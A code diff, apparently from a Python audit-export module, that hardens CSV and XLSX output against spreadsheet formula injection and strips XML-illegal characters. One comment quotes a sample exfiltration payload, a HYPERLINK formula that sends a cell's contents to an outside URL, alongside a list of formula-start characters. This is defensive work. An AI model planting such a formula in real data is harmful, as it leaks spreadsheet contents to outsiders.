@@ -183,8 +183,24 @@ def to_csv(rows: list[AuditRow]) -> bytes:
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow(COLUMNS)
-    writer.writerows(_values(row) for row in rows)
+    writer.writerows(tuple(map(csv_cell, _values(row))) for row in rows)
     return buffer.getvalue().encode("utf-8-sig")
+
+
+# A spreadsheet opening the CSV runs a cell that starts with one of these as a formula (OWASP
+# "CSV Injection"): `=HYPERLINK("http://…?leak="&A1)` in a data note would leak the sheet.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# …but a plain number stays a number: "-3.2", "+5", "-1,234.5", "-0.4%", "1e-3" are values a
+# spreadsheet parses as numbers, never formulas, and a fact-checker sorts and sums them
+_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")
+
+
+def csv_cell(value):
+    """`value`, or a text that could run as a formula prefixed with a single quote."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START) \
+            and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def _values(row: AuditRow) -> tuple:
@@ -195,6 +211,7 @@ def _values(row: AuditRow) -> tuple:
 def to_xlsx(rows: list[AuditRow], source_date_epoch: int) -> bytes:
     """One sheet with a frozen, filterable header; identical rows give identical bytes."""
     import openpyxl
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE as illegal
     from openpyxl.styles import Alignment, Font
 
     book = openpyxl.Workbook()
@@ -202,7 +219,16 @@ def to_xlsx(rows: list[AuditRow], source_date_epoch: int) -> bytes:
     sheet.title = "audit"
     sheet.append(COLUMNS)
     for row in rows:
-        sheet.append(list(_values(row)))
+        values = _values(row)
+        # XML 1.0 forbids most control characters: openpyxl would refuse the whole workbook
+        # for one stray byte in a data note, so they become U+FFFD
+        sheet.append([illegal.sub("\ufffd", v) if isinstance(v, str) else v for v in values])
+        if any(isinstance(v, str) and v.startswith("=") for v in values):
+            # openpyxl stores any text starting with '=' as a live formula (<f>); data text
+            # must stay text, whatever it says
+            for cell in sheet[sheet.max_row]:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
     for cell in sheet[1]:
         cell.font = Font(bold=True)
     widths = {"sentence": 60, "formula": 40, "cell": 34, "chapter": 16, "section": 20,
